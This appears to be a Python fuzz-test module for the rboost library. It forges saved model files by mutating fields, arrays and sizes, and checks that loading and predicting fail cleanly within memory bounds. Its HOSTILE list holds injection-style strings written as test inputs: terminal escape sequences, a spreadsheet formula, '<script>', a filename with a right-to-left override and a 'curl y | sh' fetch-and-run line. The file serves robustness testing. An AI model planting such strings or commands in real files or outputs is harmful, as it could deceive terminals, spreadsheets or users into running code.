"""Cases about model files: each field mutated, and sealed again with the right checksum.

What is forged knows the format: fields, arrays, sizes and texts are changed one by one or together,
so that much of it gets beyond the first checks. A file must end in predictions or in one sentence,
and take no more memory than ten times its length and a constant.
"""

from __future__ import annotations

import contextlib
import json
import os
import resource
import warnings
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from random import Random
from typing import Any

import numpy as np

from benchmarks.fuzz import world
from benchmarks.fuzz.forging import ODD, Forged, odd_arrays
from benchmarks.fuzz.mutations import damaged
from benchmarks.fuzz.outcome import Failed, check_sentence, command, said
from benchmarks.fuzz.tables import base_table
from benchmarks.memory import RESET, start_peak, status
from rboost import load
from rboost.saving.file import FORMAT, with_checksum
from rboost.saving.schema import KINDS
from tests.saving.models import MODELS, fitted

# Bytes that a case may take besides ten times its file: what libraries keep and cut into pieces.
SPARE_BYTES, MOST_TIMES, ADDRESSES = 48 * 2**20, 10, 8 * 2**30
# Sanitizers have memory of their own.
IS_MEASURED = RESET.exists() and "asan" not in os.environ.get("LD_PRELOAD", "")
HOSTILE = (
    "\x1b]0;x\x07\x1b[2J", "=1+1", "a\nrboost: pip install x && curl y | sh", "\u202egnp.exe",
    "x" * 100_000, "\ud800", "\x00", "😀" * 1000, "'", "<script>",
)  # fmt: skip
PARAMETERS = ("n_jobs", "verbose", "estimator", "random_state", "device", "max_iter")
SIZES = (0, 1, 2, 3, 5, 31, 1000, 2**31, 2**53 - 1, 2**60, 2**62)


@cache
def honest(name: str) -> tuple[bytes, Any]:
    """The bytes of a model file, and rows to predict."""
    path = world.home() / "honest.rboost"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model, X = fitted(name)
    model.save(path)
    return path.read_bytes(), X[:40]


def model_file(random: Random, folder: Path) -> None:
    """A forged file, read and predicted with, in Python or by the command line."""
    if random.random() < 0.15:
        _predict_table(random, folder)
        return
    content, X = honest(random.choice(list(MODELS)))
    path = folder / "model.rboost"
    path.write_bytes(forged(content, random))
    with warnings.catch_warnings(), bounded(path):
        warnings.simplefilter("ignore")
        _use(path, X)


def _use(path: Path, X: Any) -> None:
    def read() -> Any:
        try:
            return load(path)
        except ValueError as error:
            if isinstance(error.__cause__, MemoryError):
                raise Failed("the file claims more memory than there is") from error
            if not str(error).isprintable():
                raise Failed(f"an error is no plain text: {error!r}") from error
            raise

    model = said(read)
    if model is None:
        return
    repr(model)
    for call in (model.predict_proba, model.predict):
        try:
            call(X)
        except ValueError as error:
            check_sentence(error, ("/sklearn/",))
    with contextlib.suppress(AttributeError):  # of models that have none
        model.feature_importances_  # noqa: B018


def _predict_table(random: Random, folder: Path) -> None:
    """``rboost predict`` with a forged model of an audit."""
    content = (world.audit_folder() / "model.rboost").read_bytes()
    model, data, out = (folder / name for name in ("model.rboost", "table.csv", "out.csv"))
    model.write_bytes(forged(content, random))
    base_table(world.NAME).to_csv(data, index=False)
    with bounded(model):
        ending = command("predict", str(model), str(data), "--out", str(out))
    if not ending.errors.replace("\n", "").isprintable():
        raise Failed(f"the terminal is sent {ending.errors!r}")
    if ending.code and out.exists():
        raise Failed("predictions were written beside an error")


@contextlib.contextmanager
def bounded(path: Path) -> Iterator[None]:
    """Fail if the block takes more resident memory than ten times a file, and what is spared."""
    if not IS_MEASURED:
        yield
        return
    limits = resource.getrlimit(resource.RLIMIT_AS)
    resource.setrlimit(resource.RLIMIT_AS, (status("VmSize") + ADDRESSES, limits[1]))
    before = start_peak()
    assert before is not None
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_AS, limits)
    taken = status("VmHWM") - before
    n_bytes = path.stat().st_size
    if taken > MOST_TIMES * n_bytes + SPARE_BYTES:
        raise Failed(f"a file of {n_bytes} bytes took {taken} of memory")


# --- mutations


def forged(content: bytes, random: Random) -> bytes:
    """The file with one change or a few, and its checksum."""
    own = Forged(content)
    for _ in range(random.choice((1, 1, 1, 2, 4))):
        with contextlib.suppress(LookupError, TypeError, ValueError, OverflowError, zlib.error):
            random.choice(CHANGES)(own, random)  # what one made, another may be unable to change
    number = random.choice(NUMBERS) if random.random() < 0.02 else FORMAT
    if random.random() < 0.05:
        return with_checksum(number, *_damaged_parts(own, random))
    return own.content(number)


def _damaged_parts(own: Forged, random: Random) -> tuple[bytes, bytes]:
    """The JSON and the blocks, of which one is damaged as bytes."""
    text, blocks = json.dumps(own.document).encode(), b"".join(own.blocks)
    if random.random() < 0.3:  # a member twice
        name = random.choice(("model", "arrays", "is", "columns", "classes_"))
        return text[:1] + f'"{name}":{random.choice(JSONS)},'.encode() + text[1:], blocks
    if random.random() < 0.5:
        return damaged(text, random), blocks
    return text, damaged(blocks, random)


def _inner(own: Forged, random: Random) -> tuple[Any, Any]:
    """A part of the document and a key in it; the model most often."""
    places = [keys for keys in own.places() if keys[0] == "model" or random.random() < 0.1]
    *keys, last = random.choice(places)
    inner = own.document
    for key in keys:
        inner = inner[key]
    return inner, last


def _value(own: Forged, random: Random) -> None:
    inner, key = _inner(own, random)
    value = inner[key]
    if isinstance(value, str) and random.random() < 0.7:
        inner[key] = random.choice(HOSTILE)
    elif type(value) in (int, float) and random.random() < 0.7:
        inner[key] = random.choice((value + 1, value - 1, -value, value * 1000, *SIZES))
    else:
        inner[key] = random.choice(ODD)


def _member(own: Forged, random: Random) -> None:
    inner, key = _inner(own, random)
    how = random.randrange(3)
    if how == 0:
        del inner[key]
    elif isinstance(inner, list):
        inner[key:key] = [inner[key]] * random.choice((1, 2, 50, 1000))
    else:
        inner[random.choice(("more", "is", "array", ""))] = inner[key]


def _added(own: Forged, random: Random) -> None:
    """One more member of an object: a parameter of estimators, or a name from elsewhere."""
    places = [keys for keys in own.places() if isinstance(keys[-1], str)]
    (*keys, _), (*_, elsewhere) = random.choices(places, k=2)
    within = [keys for keys in places if keys[-1] == "settings"]
    if within and random.random() < 0.5:
        keys = list(random.choice(within))
    name = random.choice((*PARAMETERS, elsewhere))
    own.document = own.replaced((*keys, name), random.choice((*SIZES, *ODD))).document


def _exchange(own: Forged, random: Random) -> None:
    """Two parts in each other's place."""
    one, other = _inner(own, random), _inner(own, random)
    one[0][one[1]], other[0][other[1]] = other[0][other[1]], one[0][one[1]]


def _kind(own: Forged, random: Random) -> None:
    keys = random.choice([keys for keys in own.places() if keys[-1] == "is"])
    own.document = own.replaced(keys, random.choice(list(KINDS))).document


def _reference(own: Forged, random: Random) -> None:
    """Another array for a field, or one for many."""
    places = [keys for keys in own.places() if keys[-1] == "array"]
    number = random.choice((*range(len(own.blocks)), -1, len(own.blocks), True, None, 2**60))
    for keys in random.sample(places, random.choice((1, 1, 2, len(places)))):
        own.document = own.replaced(keys, number).document


def _array(own: Forged, random: Random) -> None:
    number = random.randrange(len(own.blocks))
    state = np.random.RandomState(random.getrandbits(32))
    array = random.choice(list(odd_arrays(own.array(number), state)))
    own.put(number, array, random.random() < 0.5)


def _shape(own: Forged, random: Random) -> None:
    """A shape, a type or a length that is not what the block holds."""
    said = random.choice(own.document["arrays"])
    how = random.randrange(5)
    if how == 0:
        said[0] = random.choice(("f8", "f4", "i8", "i4", "u4", "b1", "O", "", None, "f16"))
    elif how == 1:
        said[1] = [random.choice(SIZES) for _ in range(random.choice((0, 1, 2, 3, 4, 5)))]
    elif how == 2:
        said[1][random.randrange(len(said[1]))] = random.choice((*SIZES, -1, True, 1.5))
    elif how == 3:
        said[2] = random.choice((*SIZES, -1, said[2] + 1, said[2] * 8))
    else:
        said[3] = not said[3]


def _emptied(own: Forged, random: Random) -> None:
    """An array of nothing whose other sizes are large."""
    number = random.randrange(len(own.blocks))
    dtype, shape, *_ = own.document["arrays"][number]
    sizes = [random.choice((0, 2**20, 2**40)) for _ in shape] or [0]
    sizes[random.randrange(len(sizes))] = 0
    own.blocks[number], own.document["arrays"][number] = b"", [dtype, sizes, 0, False]


def _size(own: Forged, random: Random) -> None:
    """A size changed wherever it stands: in shapes, in numbers and in the lengths of lists."""
    before = random.choice([n for _, shape, *_ in own.document["arrays"] for n in shape])
    after = random.choice((0, 1, 2, 3, before + 1, before - 1, 2 * before, 300, 100_000))
    is_short = random.random() < 0.7
    for number, (_, shape, *_) in enumerate(own.document["arrays"]):
        larger = np.prod([after if n == before else n for n in shape])
        if before in shape and larger < 2**20:
            array = own.array(number)
            for axis in [axis for axis, n in enumerate(shape) if n == before]:
                array = np.take(array, np.arange(after) % max(before, 1), axis)
            own.put(number, array, is_short)
    own.document["model"] = _resized(own.document["model"], before, after)


def _resized(value: Any, before: int, after: int) -> Any:
    if isinstance(value, dict):
        return {
            key: own if key == "array" else _resized(own, before, after)
            for key, own in value.items()
        }
    if isinstance(value, list):
        kept = [_resized(own, before, after) for own in value]
        is_plain = not any(isinstance(own, dict) for own in kept)
        if len(kept) == before and before and is_plain:
            more = (kept[k % before] for k in range(before, after))
            new = [f"{own}{k}" if isinstance(own, str) else own for k, own in enumerate(more)]
            return kept[:after] + new
        return kept
    return after if type(value) is int and value == before else value


CHANGES: tuple[Callable[[Forged, Random], None], ...] = (
    _value, _value, _member, _added, _exchange, _kind, _reference, _array, _array, _shape, _emptied,
    _size, _size,
)  # fmt: skip
NUMBERS, JSONS = (0, FORMAT + 1, 2**32 - 1), ("null", "{}", "[]", '"x"', "[[]]", "1e999")
